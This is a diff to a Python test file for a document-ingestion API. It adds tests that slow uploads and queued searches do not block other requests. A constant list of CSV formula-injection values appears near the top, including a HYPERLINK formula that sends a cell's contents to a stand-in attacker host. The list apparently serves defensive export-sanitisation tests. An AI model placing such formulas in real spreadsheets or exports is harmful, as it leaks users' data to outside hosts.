@@ -2,15 +2,21 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
+import threading
+import time
 from pathlib import Path
 
+import httpx
 import pytest
 from test_api import assert_problem, make_client, populate
 
+from api.http.app import create_app
 from ingest.records import Item, Tag
 
+BASE = "http://127.0.0.1:8000"
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+41", "+cmd", "-2+3", "@SUM(A1)"]
 
 
@@ -184,3 +190,66 @@ def test_api_reupload_of_a_new_version_replaces_the_old_one(kb, monkeypatch) -> 
         docs = client.get("/documents").json()
         assert [d["file_name"] for d in docs] == ["rapport.md"]
         assert client.get("/documents/rapport.md").status_code == 200  # not "ambiguous"
+
+
+def test_one_slow_upload_holds_up_no_other(kb, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    """A file that takes minutes (a long OCR) must not queue every upload behind it."""
+    release = threading.Event()
+    real_ingest = kb.ingest
+
+    def ingest(paths, **kwargs):  # type: ignore[no-untyped-def]
+        if any("slow" in Path(p).name for p in paths):
+            release.wait(30)
+        return real_ingest(paths, **kwargs)
+
+    monkeypatch.setattr(kb, "settings", kb.settings.model_copy(update={"jobs": 2}))
+    monkeypatch.setattr(kb, "ingest", ingest)
+    fast = b"# Rapport\n\n## Recommandations\n\n- Renforcer la coordination des acteurs.\n"
+    try:
+        with make_client(kb) as client:
+            client.post("/documents", files={"file": ("slow.md", fast + b"- Autre.\n")})
+            job = client.post("/documents", files={"file": ("fast.md", fast)}).json()
+            deadline = time.monotonic() + 20
+            while client.get(job["url"]).json()["status"] != "done":
+                assert time.monotonic() < deadline, "the fast upload waited for the slow one"
+                time.sleep(0.05)
+            release.set()
+            client.app.state.uploads.wait_idle()  # type: ignore[attr-defined]
+            assert {d["file_name"] for d in client.get("/documents").json()} == {
+                "slow.md",
+                "fast.md",
+            }
+    finally:
+        release.set()
+
+
+def test_queued_searches_leave_threads_for_cheap_reads(kb, stocked, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    """Searches waiting for a CPU slot must not take the thread pool: with 50 clients
+    searching, /items and /health still answer (before: all 40 threads waited on the slot)."""
+    release = threading.Event()
+    monkeypatch.setattr(kb, "settings", kb.settings.model_copy(update={"search_slots": 1}))
+    monkeypatch.setattr("api.reads.Reader.search", lambda self, request: release.wait(30) and [])
+    app = create_app(kb)
+    transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 50000))
+
+    async def scenario() -> None:
+        async with (
+            app.router.lifespan_context(app),
+            httpx.AsyncClient(transport=transport, base_url=BASE) as client,
+        ):
+            searches = [
+                asyncio.create_task(client.get("/search", params={"q": f"juges {i}"}))
+                for i in range(50)
+            ]
+            await asyncio.sleep(0.5)  # every search has reached its slot or waits for it
+            items = await asyncio.wait_for(client.get("/items?limit=5"), timeout=10)
+            health = await asyncio.wait_for(client.get("/health"), timeout=10)
+            release.set()
+            answers = await asyncio.gather(*searches)
+        assert items.status_code == 200 and health.status_code == 200
+        assert {a.status_code for a in answers} == {200}
+
+    try:
+        asyncio.run(scenario())
+    finally:
+        release.set()
